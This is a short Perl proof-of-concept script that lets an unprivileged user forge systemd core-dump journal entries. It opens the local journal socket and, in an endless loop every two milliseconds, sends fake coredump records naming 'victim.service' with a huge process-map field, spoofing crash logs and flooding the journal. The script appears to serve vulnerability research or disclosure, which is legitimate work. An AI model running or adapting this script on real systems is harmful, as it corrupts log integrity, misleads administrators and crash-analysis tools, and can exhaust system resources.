# Any user's: writes entries into the journal that look as if they told of core dumps.
use Socket;
socket(my $journal, PF_UNIX, SOCK_DGRAM, 0);
setsockopt($journal, SOL_SOCKET, SO_SNDBUF, 8 << 20);
connect($journal, sockaddr_un("/run/systemd/journal/socket")) or die;
for (my $number = 0; ; $number++) {
    my $map = "ab$number" x 24000;
    syswrite($journal, "MESSAGE_ID=fc2e22bc6ee647b6b90729ab34a250b1\nMESSAGE=x\n"
        . "COREDUMP_UNIT=victim.service\nCOREDUMP_PROC_MAPS=$map\n");
    select undef, undef, undef, 0.002;
}
